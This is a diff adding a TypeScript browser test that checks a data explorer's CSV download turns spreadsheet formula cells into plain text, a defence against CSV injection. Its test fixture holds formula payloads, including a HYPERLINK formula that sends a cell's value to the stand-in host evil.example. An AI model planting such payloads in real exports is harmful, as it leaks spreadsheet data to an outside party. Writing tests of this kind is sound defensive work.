@@ -1,0 +1,57 @@
+/**
+ * The explorer's "Download CSV" in a real browser (Debian's headless Chromium): product codes that a
+ * spreadsheet would run as formulas arrive as text in the download, while the API's own CSV keeps
+ * them exactly as stored.
+ */
+import { readFileSync } from "node:fs";
+import type { RunningServer } from "@ctr/query-api";
+import type { Store } from "@ctr/schemas";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { neutraliseFormulas } from "../query-api/explorer/csv_formulas.js";
+import { insertViews, openTestStore, serveApi, truncateTables } from "./support/api_server.ts";
+import { openBrowser } from "./support/browser.ts";
+import { needs } from "./support/services.ts";
+
+const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1"];
+const QUERY = "startTimestamp=2016-02-01%2010:00:00&endTimestamp=2016-02-01%2012:00:00&aggregation=60";
+
+let store: Store;
+let closeStore: (() => Promise<void>) | undefined;
+let server: RunningServer | undefined;
+let browser: Awaited<ReturnType<typeof openBrowser>> | undefined;
+
+beforeAll(async () => {
+  ({ store, close: closeStore } = await openTestStore());
+  await truncateTables(store);
+  await insertViews(store, [
+    ...FORMULAS.map((product) => ({ at: "2016-02-01 10:05", platform: "iOS" as const, product, count: 2 })),
+    { at: "2016-02-01 11:00", platform: "Android", product: "PLAIN-1", count: 1 },
+  ]);
+  server = await serveApi(store);
+  browser = await openBrowser();
+});
+afterAll(async () => {
+  await browser?.close();
+  await server?.close();
+  await closeStore?.();
+});
+
+describe("the explorer's CSV download in Chromium", needs("chromium"), () => {
+  it("neutralises cells that start a formula; the API's CSV stays exact", async () => {
+    if (!browser || !server) throw new Error("not started");
+    const api = await (await fetch(`${server.url}/ctr?${QUERY}`, { headers: { Accept: "text/csv" } })).text();
+    for (const product of FORMULAS) expect(api).toContain(`"${product.replaceAll('"', '""')}"`);
+
+    const page = await browser.context.newPage();
+    await page.goto(`${server.url}/explore?${QUERY}`);
+    await page.waitForSelector("#results:not([hidden]) #rows tbody tr");
+    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download-csv")]);
+    const csv = readFileSync(await download.path(), "utf8");
+
+    expect(csv).toBe(neutraliseFormulas(api));
+    for (const product of FORMULAS) expect(csv).toContain(`"'${product.replaceAll('"', '""')}"`);
+    expect(csv).toContain('"PLAIN-1"');
+    expect(csv.split("\n").filter((line) => line !== "")).toHaveLength(FORMULAS.length + 2);
+    await page.close();
+  });
+});
